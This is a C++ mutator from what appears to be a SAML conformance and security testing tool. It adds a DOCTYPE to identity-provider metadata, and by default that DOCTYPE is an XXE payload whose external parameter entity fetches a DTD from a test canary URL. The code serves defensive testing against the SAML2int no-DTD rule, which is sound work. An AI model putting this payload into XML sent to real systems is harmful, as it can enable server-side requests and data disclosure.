// SPDX-License-Identifier: Apache-2.0
// metadata.doctype_added — a DOCTYPE in the metadata document, harmless or with an external
// parameter entity pointing at the canary (attack-catalogue MD-DTD; SAML2int IIP-G03: no DTD at
// all). The signature is untouched: the DOCTYPE lies outside the signed element. Param `payload`:
// xxe (default) | benign.
#include "mutators/keys/keys.hpp"
#include "mutators/metadata/metadata.hpp"
#include "mutators/mutators.hpp"

namespace samlt::idp::mutators {

core::Result<void> metadata_doctype_added(Target& target) {
  auto payload = string_param(target, "payload");
  if (!payload) {
    return core::fail(payload.error());
  }
  std::string wanted = payload->value_or("xxe");
  if (wanted != "xxe" && wanted != "benign") {
    return core::fail(core::Reason::mutator_params_invalid, "/payload: expected xxe or benign");
  }
  std::string doctype = wanted == "benign" ? "<!DOCTYPE EntityDescriptor>"
                                           : "<!DOCTYPE EntityDescriptor [<!ENTITY % remote SYSTEM \"" +
                                                 keys::canary(target, "/metadata.dtd") + "\"> %remote;]>";
  std::string& xml = *target.xml;
  auto declaration_end = xml.find("?>");
  xml.insert(declaration_end == std::string::npos ? 0 : declaration_end + 2, doctype);
  return {};
}

}  // namespace samlt::idp::mutators
